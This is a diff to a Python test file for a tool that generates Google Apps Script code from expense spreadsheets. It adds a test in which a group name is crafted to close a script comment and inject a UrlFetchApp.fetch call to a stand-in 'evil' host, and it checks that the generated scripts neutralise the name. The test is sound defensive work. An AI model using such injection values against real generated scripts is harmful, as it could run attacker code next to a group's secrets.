@@ -177,3 +177,23 @@ def test_the_responses_tabs_the_forms_make_are_read_as_logbook_expenses_and_paym
     assert (expense.paid_by, expense.category, expense.amount) == ("Catherine", "maintenance", 80)
     (payment,) = [p for p in report.book.payments if p.source.tab == "Réponses au formulaire 3"]
     assert (payment.sender, payment.recipient, payment.amount) == ("Julien", "Laurent", 50)
+
+
+HOSTILE_GROUP = 'x */ UrlFetchApp.fetch("https://evil"); /*'
+
+
+@needs_node
+def test_a_group_name_that_ends_a_comment_injects_no_code(tmp_path, example2):
+    """The group's name (a Settings cell, or --group) is only in the scripts' JSON-escaped
+    configuration: a name holding */ cannot end a comment and add code beside the group's secret."""
+    example2["Settings"] += [["group", HOSTILE_GROUP]]
+    workbook = write_xlsx(tmp_path / "hostile.xlsx", example2)
+    form = CliRunner().invoke(cli, ["form", str(workbook)])
+    menu = CliRunner().invoke(cli, ["apps-script", str(workbook), "--url", "u", "--group", HOSTILE_GROUP])
+    assert form.exit_code == 0 and menu.exit_code == 0, form.output + menu.output
+    for name, text in (("Form.gs", form.stdout), ("Code.gs", menu.stdout)):
+        assert 'UrlFetchApp.fetch("https://evil' not in text  # only JSON-escaped, inside a string
+        script = tmp_path / name
+        script.write_text(text)
+        opened = run(script, "onOpen" if name == "Code.gs" else "sheetsyncFormsOpen", {})
+        assert opened["requests"] == [] and len(opened["menus"]) == 1
